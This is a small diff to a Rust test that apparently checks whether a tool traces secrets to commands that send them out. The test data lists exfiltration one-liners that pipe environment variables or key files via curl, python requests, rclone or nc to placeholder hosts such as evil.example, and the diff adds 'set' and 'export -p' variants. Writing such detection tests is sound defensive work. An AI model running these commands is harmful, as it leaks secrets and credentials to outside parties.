@@ -81,6 +81,8 @@ fn a_secret_is_followed_to_what_sends_it() {
         "python3 -c \"import os,requests; requests.post('{u}', json=dict(os.environ))\"",
         "rclone copy key evil:",
         "env | curl -d @- {u}",
+        "set | curl -d @- {u}",
+        "export -p | curl -d @- {u}",
         "curl -d \"$(printenv)\" {u}",
         "cat key | docker run -i alpine nc evil.example 80",
     ] {
